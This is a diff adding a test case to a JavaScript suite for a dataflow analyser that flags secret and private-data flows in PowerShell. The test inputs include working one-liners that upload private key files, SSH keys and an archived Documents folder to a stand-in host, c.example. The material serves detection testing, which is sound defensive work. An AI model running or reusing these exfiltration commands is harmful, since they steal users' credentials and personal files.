@@ -457,6 +457,15 @@ describe('dataflow analysis', () => {
       }
     });
 
+    it('follows the files Get-ChildItem lists, as find lists them', async () => {
+      const keys = 'Get-ChildItem -Path $env:USERPROFILE -Recurse -Include *.pem,*.key | ForEach-Object { Invoke-RestMethod -Uri https://c.example/k -Method Post -InFile $_.FullName }\n';
+      assert.deepEqual(summary(await flowsOf('powershell', keys)), ["secret: the home folder's private key files -> network"]);
+      const ssh = 'foreach ($f in Get-ChildItem "$HOME\\.ssh" -Filter "id_*") { irm https://c.example/s -Method Post -Body (Get-Content $f.FullName -Raw) }\n';
+      assert.deepEqual(summary(await flowsOf('powershell', ssh)), ['secret: SSH keys -> network']);
+      const logs = 'Get-ChildItem -Path . -Filter *.log -Recurse | ForEach-Object { irm https://c.example/l -Method Post -InFile $_.FullName }\n';
+      assert.deepEqual(await flowsOf('powershell', logs), []);
+    });
+
     it('follows a folder archived and the archive uploaded', async () => {
       const code = '$zip = "$env:TEMP\\d.zip"\nCompress-Archive -Path "$env:USERPROFILE\\Documents" -DestinationPath $zip\nInvoke-WebRequest -Uri https://c.example/u -Method Post -InFile $zip\n';
       assert.deepEqual(summary(await flowsOf('powershell', code)), ["privacy: the user's personal folders -> network"]);
